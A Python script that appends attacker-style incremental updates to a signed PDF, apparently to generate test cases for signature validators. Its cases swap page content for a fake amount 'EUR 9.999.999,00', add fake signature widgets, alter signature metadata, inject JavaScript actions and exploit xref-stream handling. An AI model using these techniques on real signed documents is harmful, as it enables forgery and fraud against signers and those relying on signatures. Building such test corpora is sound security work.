#!/usr/bin/env python3
"""Appends an incremental update to a signed PDF (classic xref table), as an attacker would.
Usage: attack.py SIGNED.pdf OUT.pdf CASE [CERT.der for dss_added]. pikepdf only reads the structure (object numbers)."""
import re, sys, zlib
import pikepdf

src, out, case = sys.argv[1], sys.argv[2], sys.argv[3]
data = open(src, "rb").read()
pdf = pikepdf.open(src)
root = pdf.trailer.Root
root_n = root.objgen[0]
page = pdf.pages[0].obj
page_n = page.objgen[0]
contents = page.get("/Contents")
contents_n = contents.objgen[0] if contents is not None and contents.is_indirect else None
size = int(pdf.trailer.Size)
prev = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
af = root.get("/AcroForm")
sig_field_n = None
if af is not None:
    for f in af.Fields:
        if f.get("/FT") == "/Sig":
            sig_field_n = f.objgen[0]
mb = [float(x) for x in page.MediaBox]
info_n = pdf.trailer.Info.objgen[0] if "/Info" in pdf.trailer else None

TEXT = b"BT /F1 36 Tf 40 700 Td (DOCUMENTO SOSTITUITO EUR 9.999.999,00) Tj ET"
font = page.Resources.Font
font_key = list(font.keys())[0]
TEXT = TEXT.replace(b"/F1", font_key.encode())


def raw(obj):
    """Serialises a pikepdf object without changing it."""
    if isinstance(obj, bool):
        return b"true" if obj else b"false"
    if isinstance(obj, (int, float)):
        return str(obj).encode()
    if hasattr(obj, "unparse"):
        return obj.unparse(resolved=False)
    return str(obj).encode()


def page_dict(extra=b"", drop=()):
    items = []
    for k in page.keys():
        if k in drop:
            continue
        items.append(k.encode() + b" " + raw(page[k]))
    return b"<<" + b"\n".join(items) + extra + b">>"


def stream(body, extra=b""):
    return b"<</Length %d%s>>\nstream\n" % (len(body), extra) + body + b"\nendstream"


objs = {}  # number -> bytes (None = free)
gens = {}  # number -> generation written (default 0)
objstm_members = {}  # number -> bytes, stored in one object stream (xref stream mode)
xref_mode = "table"  # "table", "stream" or "hybrid"
prev_loop = False
startxref_delta = 0
trailer_extra = b""
new_root = root_n
new_info = info_n
tail = b""
n = size


def alloc():
    global n
    n += 1
    return n - 1


if case == "new_root":
    c, p, pages, cat = alloc(), alloc(), alloc(), alloc()
    objs[c] = stream(TEXT)
    res = raw(page.Resources)
    objs[p] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources %s/Contents %d 0 R>>" % (pages, res, c)
    objs[pages] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % p
    objs[cat] = b"<</Type/Catalog/Pages %d 0 R>>" % pages
    new_root = cat
elif case == "page_contents":
    c = alloc()
    objs[c] = stream(TEXT)
    objs[page_n] = page_dict(b"/Contents %d 0 R" % c, drop=("/Contents",))
elif case == "content_inplace":
    objs[contents_n] = stream(TEXT)
elif case == "content_appended":
    c = alloc()
    objs[c] = stream(TEXT)
    objs[page_n] = page_dict(b"/Contents[%s %d 0 R]" % (raw(page.Contents), c), drop=("/Contents",))
elif case == "widget_ap":
    ap = alloc()
    objs[ap] = stream(b"1 1 1 rg 0 0 595 842 re f 0 0 0 rg " + TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources " + raw(page.Resources))
    f = pdf.get_object((sig_field_n, 0))
    items = [k.encode() + b" " + raw(f[k]) for k in f.keys() if k not in ("/Rect", "/AP")]
    objs[sig_field_n] = b"<<" + b"\n".join(items) + b"/Rect[0 0 595 842]/AP<</N %d 0 R>>>>" % ap
elif case in ("fake_sig_annot", "fake_sig_field", "fake_dss_annot", "fake_type_sig"):
    ap, w = alloc(), alloc()
    objs[ap] = stream(b"1 1 1 rg 0 0 595 842 re f 0 0 0 rg " + TEXT, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources " + raw(page.Resources))
    kind = {"fake_sig_annot": b"/FT/Sig/Subtype/Widget/T(Firma9)", "fake_sig_field": b"/FT/Sig/Subtype/Widget/T(Firma9)",
            "fake_dss_annot": b"/Type/DSS/Subtype/Widget", "fake_type_sig": b"/Type/Sig/Subtype/Square"}[case]
    objs[w] = b"<<%s/Rect[0 0 595 842]/F 4/P %d 0 R/AP<</N %d 0 R>>>>" % (kind, page_n, ap)
    annots = list(page.get("/Annots", []))
    arr = b"[" + b" ".join(raw(a) for a in annots) + b" %d 0 R]" % w
    objs[page_n] = page_dict(b"/Annots" + arr, drop=("/Annots",))
    if case == "fake_sig_field":
        af_items = [k.encode() + b" " + raw(af[k]) for k in af.keys() if k != "/Fields"]
        fields = b"[" + b" ".join(raw(x) for x in af.Fields) + b" %d 0 R]" % w
        if af.is_indirect:
            objs[af.objgen[0]] = b"<<" + b"\n".join(af_items) + b"/Fields" + fields + b">>"
        else:
            r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys() if k != "/AcroForm"]
            objs[root_n] = b"<<" + b"\n".join(r_items) + b"/AcroForm<<" + b"\n".join(af_items) + b"/Fields" + fields + b">>>>"
elif case == "freetext":
    w = alloc()
    objs[w] = b"<</Type/Annot/Subtype/FreeText/Rect[40 600 560 760]/Contents(EUR 9.999.999,00)/DA(/Helv 30 Tf 0 g)/F 4>>"
    annots = list(page.get("/Annots", []))
    arr = b"[" + b" ".join(raw(a) for a in annots) + b" %d 0 R]" % w
    objs[page_n] = page_dict(b"/Annots" + arr, drop=("/Annots",))
elif case == "benign_sig_field":
    w = alloc()
    objs[w] = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(FirmaVuota)/Rect[0 0 0 0]/F 132/P %d 0 R>>" % page_n
    annots = list(page.get("/Annots", []))
    arr = b"[" + b" ".join(raw(a) for a in annots) + b" %d 0 R]" % w
    objs[page_n] = page_dict(b"/Annots" + arr, drop=("/Annots",))
    af_items = [k.encode() + b" " + raw(af[k]) for k in af.keys() if k != "/Fields"]
    fields = b"[" + b" ".join(raw(x) for x in af.Fields) + b" %d 0 R]" % w
    if af.is_indirect:
        objs[af.objgen[0]] = b"<<" + b"\n".join(af_items) + b"/Fields" + fields + b">>"
    else:
        r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys() if k != "/AcroForm"]
        objs[root_n] = b"<<" + b"\n".join(r_items) + b"/AcroForm<<" + b"\n".join(af_items) + b"/Fields" + fields + b">>>>"
elif case.startswith("unparsable_"):
    bad = {"unparsable_token": b"<</Length %d /Foo ) >>", "unparsable_name": b"<</Length %d /Fo#zz 1>>",
           "unparsable_bracket": b"<</Length %d /Foo [1 2 >>"}[case]
    objs[contents_n] = bad % len(TEXT) + b"\nstream\n" + TEXT + b"\nendstream"
elif case == "freed_content":
    objs[contents_n] = None
elif case == "freed_font":
    objs[font[font_key].objgen[0]] = None
elif case == "info_swap":
    i = alloc()
    objs[i] = b"<</Title(DOCUMENTO SOSTITUITO)>>"
    new_info = i
elif case == "resources_font_inplace":
    fo = font[font_key]
    items = [k.encode() + b" " + raw(fo[k]) for k in fo.keys() if k != "/BaseFont"]
    objs[fo.objgen[0]] = b"<<" + b"\n".join(items) + b"/BaseFont/Courier>>"
elif case == "open_action":
    r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys()]
    objs[root_n] = b"<<" + b"\n".join(r_items) + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
elif case == "garbage":
    tail = b"\n% trailing bytes not in any update\nEUR 9.999.999,00\n"
elif case == "page_mediabox":
    objs[page_n] = page_dict(b"/MediaBox[0 0 595 300]", drop=("/MediaBox",))
elif case == "page_cropbox":
    objs[page_n] = page_dict(b"/CropBox[0 0 595 300]", drop=("/CropBox",))
elif case == "page_rotate":
    objs[page_n] = page_dict(b"/Rotate 180", drop=("/Rotate",))
elif case == "page_userunit":
    objs[page_n] = page_dict(b"/UserUnit 3.0", drop=("/UserUnit",))
elif case == "page_added":
    c, p = alloc(), alloc()
    pages = page.Parent
    objs[c] = stream(TEXT)
    objs[p] = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources %s/Contents %d 0 R>>" % (pages.objgen[0], raw(page.Resources), c)
    items = [k.encode() + b" " + raw(pages[k]) for k in pages.keys() if k not in ("/Kids", "/Count")]
    kids = b"[" + b" ".join(raw(x) for x in pages.Kids) + b" %d 0 R]" % p
    objs[pages.objgen[0]] = b"<<" + b"\n".join(items) + b"/Kids" + kids + b"/Count %d>>" % (int(pages.Count) + 1)
elif case == "annot_removed":
    annots = [a for a in page.get("/Annots", []) if a.objgen[0] != sig_field_n]
    arr = b"[" + b" ".join(raw(a) for a in annots) + b"]"
    objs[page_n] = page_dict(b"/Annots" + arr, drop=("/Annots",))
elif case in ("widget_hidden", "widget_moved"):
    f = pdf.get_object((sig_field_n, 0))
    drop = ("/F",) if case == "widget_hidden" else ("/Rect",)
    items = [k.encode() + b" " + raw(f[k]) for k in f.keys() if k not in drop]
    extra = b"/F 2" if case == "widget_hidden" else b"/Rect[40 600 220 660]"
    objs[sig_field_n] = b"<<" + b"\n".join(items) + extra + b">>"
elif case == "sig_value_swap":
    f = pdf.get_object((sig_field_n, 0))
    v = f.V
    sd = alloc()
    v_items = [k.encode() + b" " + raw(v[k]) for k in v.keys() if k not in ("/Reason", "/Name")]
    objs[sd] = b"<<" + b"\n".join(v_items) + b"/Reason(Annullato: sostituisce la delibera)/Name(Altro Firmatario)>>"
    items = [k.encode() + b" " + raw(f[k]) for k in f.keys() if k != "/V"]
    objs[sig_field_n] = b"<<" + b"\n".join(items) + b"/V %d 0 R>>" % sd
elif case == "link_uri":
    w = alloc()
    objs[w] = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]/A<</S/URI/URI(http://example.invalid/paga)>>>>"
    annots = list(page.get("/Annots", []))
    arr = b"[" + b" ".join(raw(a) for a in annots) + b" %d 0 R]" % w
    objs[page_n] = page_dict(b"/Annots" + arr, drop=("/Annots",))
elif case == "names_javascript":
    js = alloc()
    objs[js] = b"<</S/JavaScript/JS(app.alert('pagato'))>>"
    r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys() if k != "/Names"]
    objs[root_n] = b"<<" + b"\n".join(r_items) + b"/Names<</JavaScript<</Names[(a) %d 0 R]>>>>>>" % js
elif case == "page_aa":
    objs[page_n] = page_dict(b"/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>", drop=("/AA",))
elif case == "need_appearances":
    af_items = [k.encode() + b" " + raw(af[k]) for k in af.keys() if k != "/NeedAppearances"]
    new_af = b"<<" + b"\n".join(af_items) + b"/NeedAppearances true>>"
    if af.is_indirect:
        objs[af.objgen[0]] = new_af
    else:
        r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys() if k != "/AcroForm"]
        objs[root_n] = b"<<" + b"\n".join(r_items) + b"/AcroForm" + new_af + b">>"
elif case == "gen_bump":
    objs[contents_n] = stream(TEXT)
    gens[contents_n] = 1
elif case in ("xref_stream_update", "objstm_page"):
    xref_mode = "stream"
    c = alloc()
    objs[c] = stream(TEXT)
    if case == "xref_stream_update":
        objs[page_n] = page_dict(b"/Contents %d 0 R" % c, drop=("/Contents",))
    else:
        objstm_members[page_n] = page_dict(b"/Contents %d 0 R" % c, drop=("/Contents",))
elif case == "hybrid_xrefstm":
    # Classic readers see the update as empty; readers honouring /XRefStm see new content.
    xref_mode = "hybrid"
    c = alloc()
    objs[c] = stream(TEXT)
    objs[page_n] = page_dict(b"/Contents %d 0 R" % c, drop=("/Contents",))
elif case == "trailer_encrypt":
    e = alloc()
    objs[e] = b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"00" * 32, b"00" * 32)
    trailer_extra = b"/Encrypt %d 0 R" % e
elif case == "prev_loop":
    objs[contents_n] = stream(TEXT)
    prev_loop = True
elif case == "startxref_wrong":
    objs[contents_n] = stream(TEXT)
    startxref_delta = 7
elif case == "resources_xobject_added":
    x = alloc()
    objs[x] = stream(b"0 0 1 rg 0 0 10 10 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 10 10]")
    res = page.Resources
    r_items = [k.encode() + b" " + raw(res[k]) for k in res.keys() if k != "/XObject"]
    objs[page_n] = page_dict(b"/Resources<<" + b"\n".join(r_items) + b"/XObject<</Xn %d 0 R>>>>" % x, drop=("/Resources",))
elif case == "dss_added":
    cert = alloc()
    objs[cert] = stream(open(sys.argv[4], "rb").read())
    r_items = [k.encode() + b" " + raw(root[k]) for k in root.keys() if k != "/DSS"]
    objs[root_n] = b"<<" + b"\n".join(r_items) + b"/DSS<</Certs[%d 0 R]>>>>" % cert
elif case == "empty_update":
    pass
else:
    sys.exit("unknown case " + case)

body = bytearray(data)
if not body.endswith(b"\n"):
    body += b"\n"
if case == "garbage":
    open(out, "wb").write(bytes(body) + tail)
    sys.exit(0)
offsets = {}
for num in sorted(objs):
    if objs[num] is None:
        continue
    offsets[num] = len(body)
    body += b"%d %d obj\n" % (num, gens.get(num, 0)) + objs[num] + b"\nendobj\n"
n0 = n
trailer = b"/Size %d/Root %d 0 R/Prev %d" % (max(n, size), new_root, prev)
if new_info is not None:
    trailer += b"/Info %d 0 R" % new_info
if "/ID" in pdf.trailer:
    trailer += b"/ID" + raw(pdf.trailer.ID)
trailer += trailer_extra


def xref_stream_bytes(entries, extra_dict):
    """entries: list of (num, type, f2, f3); returns an xref stream object's body."""
    entries = sorted(entries)
    index, data = [], b""
    for num, t, f2, f3 in entries:
        if index and index[-1][0] + index[-1][1] == num:
            index[-1][1] += 1
        else:
            index.append([num, 1])
        data += bytes([t]) + f2.to_bytes(4, "big") + f3.to_bytes(2, "big")
    idx = b" ".join(b"%d %d" % (a, b) for a, b in index)
    return stream(data, b"/Type/XRef/W[1 4 2]/Index[%s]%s" % (idx, extra_dict))


if xref_mode in ("stream", "hybrid"):
    entries = []
    for num in objs:
        if objs[num] is None:
            entries.append((num, 0, 0, 1))
        else:
            entries.append((num, 1, offsets[num], gens.get(num, 0)))
    if objstm_members:
        sn = n
        n += 1
        header, body_ = b"", b""
        for i, (num, text_) in enumerate(sorted(objstm_members.items())):
            header += b"%d %d " % (num, len(body_))
            body_ += text_ + b"\n"
            entries.append((num, 2, sn, i))
        offsets[sn] = len(body)
        body += b"%d 0 obj\n" % sn + stream(header + body_, b"/Type/ObjStm/N %d/First %d" % (len(objstm_members), len(header))) + b"\nendobj\n"
        entries.append((sn, 1, offsets[sn], 0))
    xn = n
    n += 1
    xref_pos = len(body)
    entries.append((xn, 1, xref_pos, 0))
    if xref_mode == "stream":
        t = b"/Size %d/Root %d 0 R/Prev %d" % (n, new_root, prev)
        if new_info is not None:
            t += b"/Info %d 0 R" % new_info
        if "/ID" in pdf.trailer:
            t += b"/ID" + raw(pdf.trailer.ID)
        body += b"%d 0 obj\n" % xn + xref_stream_bytes(entries, t) + b"\nendobj\n"
        body += b"startxref\n%d\n%%%%EOF\n" % xref_pos
        open(out, "wb").write(bytes(body))
        sys.exit(0)
    # hybrid: the xref stream lists the new objects, the classic table lists none of them
    body += b"%d 0 obj\n" % xn + xref_stream_bytes(entries, b"/Size %d" % n) + b"\nendobj\n"
    table_pos = len(body)
    body += b"xref\n0 0\ntrailer\n<<" + trailer.replace(b"/Size %d" % max(n0, size), b"/Size %d" % n, 1) + b"/XRefStm %d>>\nstartxref\n%d\n%%%%EOF\n" % (xref_pos, table_pos)
    open(out, "wb").write(bytes(body))
    sys.exit(0)

xref_pos = len(body)
body += b"xref\n"
for num in sorted(objs):
    body += b"%d 1\n" % num
    if objs[num] is None:
        body += b"0000000000 00001 f\r\n"
    else:
        body += b"%010d %05d n\r\n" % (offsets[num], gens.get(num, 0))
if prev_loop:
    trailer = trailer.replace(b"/Prev %d" % prev, b"/Prev %d" % xref_pos)
body += b"trailer\n<<" + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % (xref_pos + startxref_delta)
open(out, "wb").write(bytes(body))
